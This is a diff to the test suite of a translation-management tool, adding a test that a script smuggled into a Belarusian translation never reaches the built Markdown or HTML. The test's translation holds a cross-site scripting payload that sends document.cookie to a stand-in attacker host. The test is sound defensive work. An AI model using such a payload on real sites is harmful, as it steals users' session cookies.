@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import shutil
 import subprocess
+from collections.abc import Callable
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -176,3 +177,29 @@ def test_nothing_runs_in_a_real_browser(tmp_path: Path) -> None:
     assert done.returncode == 0, done.stderr[-2000:]
     assert "data-pwned" not in done.stdout.split("<body", 1)[0], "a hostile translation ran in the browser"
     assert "&lt;script&gt;" in done.stdout  # shown as text
+
+
+def test_a_script_inside_a_markdown_paragraph_is_never_offered_nor_taken_from_a_catalog(
+        make_project: Callable[..., Path]) -> None:
+    from transmgr.catalog import read_catalog, set_translation, write_catalog
+    from transmgr.workflows import Project, update
+    from transmgr.workflows.build import build
+
+    source = 'Press the button <script>var greeting = "Hello there";</script> to go on.\n'
+    root = make_project({"doc.md": source}, languages=["be"])
+    project = Project.load(root)
+    update(project)
+    po = project.po_path("be", "doc")
+    catalog = read_catalog(po)
+    unit = next(u for u in catalog if u.msgid)
+    inline = MARKDOWN.inline(unit.msgid)
+    assert [unit.msgid[s.start:s.end] for s in inline.spans] == ['<script>var greeting = "Hello there";</script>']
+    assert "Hello there" not in inline.prose_text()  # code: not words to translate
+    catalog.put(set_translation(unit, 'Націсніце кнопку <script>fetch("https://evil.example/"+document.cookie)'
+                                      "</script>, каб працягнуць."), replacing=unit)
+    write_catalog(catalog, po)
+    build(project)
+    page = (root / "build" / "be" / "doc.html").read_text(encoding="utf-8")
+    markdown = (root / "build" / "be" / "doc.md").read_text(encoding="utf-8")
+    assert "evil.example" not in page and "evil.example" not in markdown
+    assert 'var greeting = "Hello there"' in markdown  # the source's own segment stands instead
